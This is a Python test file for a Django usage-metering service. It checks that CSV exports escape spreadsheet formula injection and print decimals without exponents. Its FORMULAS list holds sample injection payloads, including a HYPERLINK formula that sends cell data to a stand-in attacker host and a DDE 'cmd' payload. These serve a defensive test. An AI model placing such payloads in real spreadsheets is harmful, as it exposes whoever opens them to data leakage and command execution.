"""Exports never hand a spreadsheet a formula (tenancy/spreadsheet.py): a caller-chosen
model name like `=HYPERLINK(...)` in events.csv arrives as text."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.utils import timezone

from metering import ingest
from tenancy.spreadsheet import safe_cell
from tests.conftest import Tenants
from tests.factories import issue_key
from tests.metering.test_usage_pipeline import _record

FORMULAS = ['=HYPERLINK("http://evil.test?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_cells_become_text(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-0.50", "-12", "0.000018", "chat-default", "", 5, None])
def test_numbers_and_plain_text_are_kept(value: object) -> None:
    assert safe_cell(value) == value


def test_decimals_are_written_plain_never_with_an_exponent() -> None:
    assert safe_cell(Decimal("-1.25")) == "-1.25"
    assert safe_cell(Decimal("0.000000029751")) == "0.000000029751"  # str() would say 2.9751E-8
    assert safe_cell(Decimal("100").normalize()) == "100"  # str() would say 1E+2


@pytest.mark.django_db
def test_events_csv_escapes_caller_chosen_names(tenants: Tenants, api_client) -> None:  # type: ignore[no-untyped-def]
    tiny = Decimal("0.000000029751")
    ingest.write_batch([_record(tenants.org_a.pk, "formula", at=timezone.now(), model=FORMULAS[0], route="@route", cost=tiny)])
    key = issue_key(tenants.org_a, ["read", "write"]).plaintext
    response = api_client.get("/api/v1/usage/events.csv", HTTP_AUTHORIZATION=f"Bearer {key}")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    [row] = [row for row in rows if row["request_id"] == "formula"]
    assert row["model"] == "'" + FORMULAS[0] and row["route"] == "'@route"
    assert row["cost"] == "0.000000029751"
    summary = api_client.get("/api/v1/usage/?granularity=day", HTTP_AUTHORIZATION=f"Bearer {key}").json()
    assert "E-" not in str(summary) and "0.000000029751" in str(summary)
